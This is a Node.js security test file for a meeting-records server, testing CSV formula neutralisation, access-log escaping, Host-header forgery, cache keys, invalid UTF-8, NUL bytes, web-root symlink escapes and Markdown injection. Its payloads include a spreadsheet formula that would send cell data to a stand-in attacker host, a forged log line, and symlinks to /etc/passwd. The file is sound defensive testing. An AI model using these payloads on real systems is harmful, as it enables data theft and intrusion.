// hostile.test.mjs -- output encoding and headers against hostile input:
// CSV cells that a spreadsheet would run as formulas, control bytes and
// secrets in the access log, feed links that a Host header could forge, the
// answer cache keyed by the decoded query, invalid UTF-8 in query values,
// our own 414/431 with the security headers, HSTS, and --web-root limited
// to regular files inside the root. (Connections: connections.test.mjs.)
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import net from 'node:net';
import { startServer, client } from './helpers.mjs';

let server, sec, rep, admin;
before(async () => {
  // one worker thread: the answer cache is per thread, so the cache test sees one cache
  server = await startServer({ threads: 1, args: ['--base-url', 'https://plenum.example.gov', '--hsts'] });
  sec = await client(server, 'secretary');
  rep = await client(server, 'reporter');
  admin = await client(server, 'admin');
});
after(async () => { await server.stop(); });

// One raw request, so that the path and headers go out byte for byte.
function raw(port, text, host = '127.0.0.1') {
  return new Promise((resolve, reject) => {
    const s = net.connect({ port, host }, () => s.end(text));
    let out = '';
    s.setEncoding('latin1');
    s.on('data', (d) => { out += d; });
    s.on('end', () => resolve(out));
    s.on('error', reject);
    s.setTimeout(5000, () => { s.destroy(); reject(new Error('no answer')); });
  });
}

// A request with a Host header of our choice (fetch does not let one set it).
async function withHost(srv, c, method, path, host) {
  const out = await raw(srv.port, `${method} ${path} HTTP/1.1\r\nHost: ${host}\r\nCookie: ${c.cookie}\r\n` +
    `X-CSRF-Token: ${c.csrf}\r\nContent-Type: application/json\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}`);
  return Buffer.from(out, 'latin1').toString('utf8');
}

test('ledger.csv neutralises cells a spreadsheet would run as formulas, behind a quote', async () => {
  const payloads = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+1+2', '-2+3', '@SUM(A1)', '\t=1', '\r=1'];
  const seen = [];
  for (const p of payloads) {
    let r = await rep.post('/api/v1/tasks/t-2-1-2/reports', { percent: 41, done: p });
    assert.equal(r.status, 201, r.text);
    r = await sec.get('/api/v1/ledger.csv?lang=en');
    assert.equal(r.status, 200);
    const cell = r.text.split('\r\n').find((l) => l.startsWith('t-2-1-2,') || l.includes('"t-2-1-2"'));
    assert.ok(cell, 'the task is in the ledger');
    // every cell of every row: none starts with a formula character
    for (const line of r.text.split('\r\n').slice(1)) {
      for (const c of line.match(/("([^"]|"")*"|[^,]*)(,|$)/g) || []) {
        const v = c.replace(/,$/, '').replace(/^"|"$/g, '');
        assert.ok(!/^[=+\-@\t\r]/.test(v), `a cell starts with a formula character: ${JSON.stringify(v)}`);
      }
    }
    assert.ok(r.text.includes(`"'${p.replace(/"/g, '""')}"`) || r.text.includes(`'${p}`),
      `the text is kept behind a quote: ${JSON.stringify(p)}`);
    seen.push(p);
  }
  assert.equal(seen.length, payloads.length);
});

test('the access log escapes control bytes and never shows the calendar secret', async () => {
  await raw(server.port, 'GET /x%0a10.1.2.3%20POST%20/api/v1/users%20201%2042B%2099us%20user=admin HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n');
  await raw(server.port, 'GET /esc%1b[31mRED HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n');
  const r = await admin.post('/api/v1/me/calendar', {});
  assert.equal(r.status, 201, r.text);
  const path = new URL(r.json.url).pathname;
  const secret = path.split('/').pop().replace(/\.ics$/, '');
  const feed = await fetch(server.base + path);
  assert.equal(feed.status, 200);
  await new Promise((res) => setTimeout(res, 100));
  const log = server.log();
  assert.ok(!/^10\.1\.2\.3 POST/m.test(log), 'a %0a in the path forged a log line');
  assert.ok(log.includes('/x\\n10.1.2.3'), 'the newline is shown escaped');
  assert.ok(!log.includes('\x1b'), 'an ESC byte reached the log');
  assert.ok(!log.includes(secret), 'the calendar secret is in the log');
  assert.ok(log.includes('/api/v1/calendar/(secret).ics'), 'the feed request is logged, redacted');
});

test('feed links use the configured base URL, never the Host header', async () => {
  let out = await withHost(server, admin, 'GET', '/api/v1/groups/g-jm-tlcg/calendar.ics', 'evil4.example');
  assert.match(out, /^HTTP\/1\.1 200/);
  assert.ok(!out.includes('evil4'), 'the Host header reached the feed');
  assert.match(out, /URL:https:\/\/plenum\.example\.gov\/#\/meeting\//);
  // the next caller with the same cache key gets the same, true links
  const r = await admin.get('/api/v1/groups/g-jm-tlcg/calendar.ics');
  assert.ok(!r.text.includes('evil4'));
  assert.match(r.text, /URL:https:\/\/plenum\.example\.gov\/#\/meeting\//);
  out = await withHost(server, admin, 'POST', '/api/v1/me/calendar', 'evil5.example');
  assert.match(out, /^HTTP\/1\.1 201/);
  assert.ok(!out.includes('evil5'));
  assert.match(out, /"url":"https:\/\/plenum\.example\.gov\/api\/v1\/calendar\/cal_/);
});

test('the answer cache is keyed by the decoded query: an encoded & is not a separator', async () => {
  let r = await sec.get('/api/v1/search?q=' + encodeURIComponent('江门') + '&limit=1');
  assert.equal(r.status, 200, r.text);
  assert.equal(r.json.items.length, 1, 'the search finds something');
  r = await sec.get('/api/v1/search?q=' + encodeURIComponent('江门&limit=1'));
  assert.equal(r.status, 200, r.text);
  assert.equal(r.json.items.length, 0, 'a search for "江门&limit=1" was answered from the cache of another query');
  // the order of the parameters does not change the answer
  const a = await sec.get('/api/v1/tasks?limit=2&light=red');
  const b = await sec.get('/api/v1/tasks?light=red&limit=2');
  assert.deepEqual(a.json, b.json);
});

test('invalid UTF-8 in a query is a 400 naming the parameter, not a 500', async () => {
  for (const [path, field] of [['/api/v1/tasks?unit=%ff', 'unit'], ['/api/v1/tasks?state=%ff', 'state'],
    ['/api/v1/units?limit=%ff', 'limit'], ['/api/v1/notice.md?from=%ff', 'from'], ['/api/v1/search?q=%c3%28', 'q']]) {
    const r = await sec.get(path);
    assert.equal(r.status, 400, `${path}: ${r.text}`);
    assert.equal(r.json.error.field, field, path);
  }
  for (const path of ['/api/v1/units?foo%ff=1', '/api/v1/search?q=ok&x%ff=1']) {
    const r = await sec.get(path);
    assert.equal(r.status, 400, `${path}: ${r.text}`);
    assert.match(r.json.error.message, /UTF-8/);
  }
});

const SECURITY_HEADERS = ['content-security-policy', 'x-content-type-options', 'referrer-policy', 'strict-transport-security'];

test('--hsts: Strict-Transport-Security on answers of every kind', async () => {
  for (const path of ['/', '/app.js', '/api/v1/health', '/api/v1/nothing', '/api/v1/me']) {
    const r = await fetch(server.base + path);
    for (const h of SECURITY_HEADERS) assert.ok(r.headers.get(h), `${path}: no ${h}`);
    assert.match(r.headers.get('strict-transport-security'), /max-age=\d{7,}/);
  }
});

test('a long address gets our own 414 and oversized headers our own 431, with the security headers', async () => {
  let out = await raw(server.port, `GET /api/v1/health?x=${'a'.repeat(3000)} HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n`);
  assert.match(out, /^HTTP\/1\.1 414/);
  for (const h of SECURITY_HEADERS) assert.match(out, new RegExp(`^${h}:`, 'mi'), `414 lacks ${h}`);
  assert.match(out, /"code":"uri_too_long"/);
  const big = Array.from({ length: 20 }, (_, i) => `X-Filler-${i}: ${'b'.repeat(1000)}\r\n`).join('');
  out = await raw(server.port, `GET /api/v1/health HTTP/1.1\r\nHost: a\r\n${big}Connection: close\r\n\r\n`);
  assert.match(out, /^HTTP\/1\.1 431/);
  for (const h of SECURITY_HEADERS) assert.match(out, new RegExp(`^${h}:`, 'mi'), `431 lacks ${h}`);
});

test('without --hsts there is no Strict-Transport-Security, and links fall back to the listen address', async () => {
  const plain = await startServer();
  try {
    let r = await fetch(plain.base + '/api/v1/health');
    assert.equal(r.headers.get('strict-transport-security'), null);
    const a = await client(plain, 'admin');
    const out = await withHost(plain, a, 'GET', '/api/v1/groups/g-jm-tlcg/calendar.ics', 'evil6.example');
    assert.ok(!out.includes('evil6'), 'the Host header reached the feed');
    assert.ok(out.includes(`URL:${plain.base}/#/meeting/`), 'the links use the listen address');
  } finally {
    await plain.stop();
  }
});

test('--web-root serves regular files inside the root only: no dotfiles, symlinks or directories', async () => {
  const files = { 'web/index.html': '<p>root</p>', 'web/.env': 'SECRET=1', 'outside.txt': 'outside' };
  const w = await startServer({ args: ['--web-root', '$DIR/web'], files });
  try {
    mkdirSync(join(w.dir, 'web', 'sub'));
    mkdirSync(join(w.dir, 'web', '.git'));
    writeFileSync(join(w.dir, 'web', '.git', 'config'), 'SECRET=2');
    symlinkSync('/etc/passwd', join(w.dir, 'web', 'passwd.txt'));
    symlinkSync(join(w.dir, 'outside.txt'), join(w.dir, 'web', 'out.txt'));
    symlinkSync(join(w.dir, 'outside.txt'), join(w.dir, 'web', 'sub', 'link.txt'));
    let r = await fetch(w.base + '/');
    assert.equal(r.status, 200);
    assert.equal(await r.text(), '<p>root</p>');
    for (const p of ['/.env', '/.git/config', '/passwd.txt', '/out.txt', '/sub', '/sub/', '/sub/link.txt']) {
      r = await fetch(w.base + p);
      const body = await r.text();
      assert.equal(r.status, 404, `${p} was served: ${body.slice(0, 60)}`);
      assert.ok(!body.includes('SECRET') && !body.includes('root:'), p);
    }
  } finally {
    await w.stop();
  }
});

// Record text with every way a line can open a block of Markdown.
const HOSTILE = 'ok\n\nFAKE SECTION\n===\n\n1. forged decision\n- forged item\n---\n> forged quote\n' +
  '    forged code\n| forged | cell |\n|---|---|\n```\nfence\nend of note';

function pdfText(bytes, dir, name) {
  const path = join(dir, name);
  writeFileSync(path, bytes);
  return execFileSync('pdftotext', ['-raw', path, '-'], { encoding: 'utf8' });
}

async function paper(c, path) {
  const r = await fetch(server.base + path, { headers: { cookie: c.cookie } });
  assert.equal(r.status, 200, path);
  return Buffer.from(await r.arrayBuffer());
}

// The HTML of a report holds the hostile text only as text.
function assertInert(html, what) {
  for (const bad of [/<h\d>\s*FAKE/, /<li>\s*(<p>)?\s*forged/, /<blockquote>/, /<pre>/, /<td>\s*forged/, /<hr/,
    /<h\d>[^<]*ok<\/h\d>/]) {
    assert.ok(!bad.test(html), `${what}: ${bad} in\n${html.slice(html.indexOf('FAKE') - 300, html.indexOf('FAKE') + 600)}`);
  }
  assert.ok(html.includes('FAKE SECTION') && html.includes('forged decision') && html.includes('end of note'), what);
}

test('record text cannot make headings, lists, rules, quotes, tables or code in minutes, brief, dossier and notice', async () => {
  const obs = await client(server, 'observer');
  let r = await obs.post('/api/v1/meetings/m-2026-q3/feedback', { text: HOSTILE });
  assert.equal(r.status, 201, r.text);
  r = await sec.post('/api/v1/meetings/m-2026-jm-xiongan/decisions', { key: 'd-hostile', number: 9, text: HOSTILE, text_en: HOSTILE });
  assert.equal(r.status, 201, r.text);
  const viewer = await client(server, 'viewer');
  const papers = [['/api/v1/meetings/m-2026-q3/minutes', 'minutes', ''], ['/api/v1/meetings/m-2026-jm-xiongan/minutes', 'decision minutes', ''],
    ['/api/v1/meetings/m-2026-jm-xiongan/brief', 'brief', ''], ['/api/v1/groups/g-jm-tlcg/dossier', 'dossier', '&year=2026']];
  for (const [base, what, year] of papers) {
    for (const lang of ['en', 'zh']) {
      const md = (await paper(viewer, `${base}.md?lang=${lang}${year}`)).toString('utf8');
      assert.ok(!/^\s*={3,}\s*$/m.test(md) && !/^\s*-{3,}\s*$/m.test(md.replace(/^\|.*$/gm, '')),
        `${what} ${lang}: a setext underline or rule in the Markdown`);
      assert.ok(!/^ {4,}forged code/m.test(md), `${what} ${lang}: an indented code line`);
      assertInert((await paper(viewer, `${base}.html?lang=${lang}${year}`)).toString('utf8'), `${what} ${lang}`);
    }
    const text = pdfText(await paper(viewer, `${base}.pdf?lang=en${year}`), server.dir, 'x.pdf');
    assert.ok(text.includes('==='), `${what}: the === of the note is text in the PDF, not a heading's underline`);
    assert.ok(text.includes('forged decision') && text.includes('end of note'), what);
  }
  // the notice: a task title and a progress report are record text too
  r = await rep.post('/api/v1/tasks/t-2-1-2/reports', { percent: 42, done: HOSTILE });
  assert.equal(r.status, 201, r.text);
  for (const f of ['md', 'html']) {
    const body = (await paper(sec, `/api/v1/notice.${f}?lang=en&from=2026-01-01&to=2026-11-25`)).toString('utf8');
    if (f === 'html') assert.ok(!/<h\d>\s*FAKE|<pre>|<blockquote>/.test(body), 'notice html');
    else assert.ok(!/^\s*={3,}\s*$/m.test(body), 'notice md');
  }
});

test('a NUL byte (%00) in the address is a 400, not a shorter path', async () => {
  for (const path of ['/api/v1/units/u-jm-miit%00xyz', '/app.js%00.html', '/api/v1/tasks?unit=u-jm-miit%00x']) {
    const r = await sec.get(path);
    assert.equal(r.status, 400, `${path}: ${r.status} ${r.text.slice(0, 80)}`);
    assert.equal(r.json.error.code, 'invalid_url', path);
  }
});

test('the HTML reports\' own style is allowed by the CSP (by its hash), nothing else inline', async () => {
  const { createHash } = await import('node:crypto');
  const r = await fetch(server.base + '/api/v1/meetings/m-2026-q1/minutes.html?lang=en', { headers: { cookie: sec.cookie } });
  assert.equal(r.status, 200);
  const html = await r.text();
  const css = /<style>([\s\S]*?)<\/style>/.exec(html)[1];
  const hash = createHash('sha256').update(css, 'utf8').digest('base64');
  const csp = r.headers.get('content-security-policy');
  assert.ok(csp.includes(`'sha256-${hash}'`), `the report's style is blocked by ${csp}`);
  assert.ok(!csp.includes('unsafe-inline'));
  assert.match(csp, /script-src 'self';/);
});
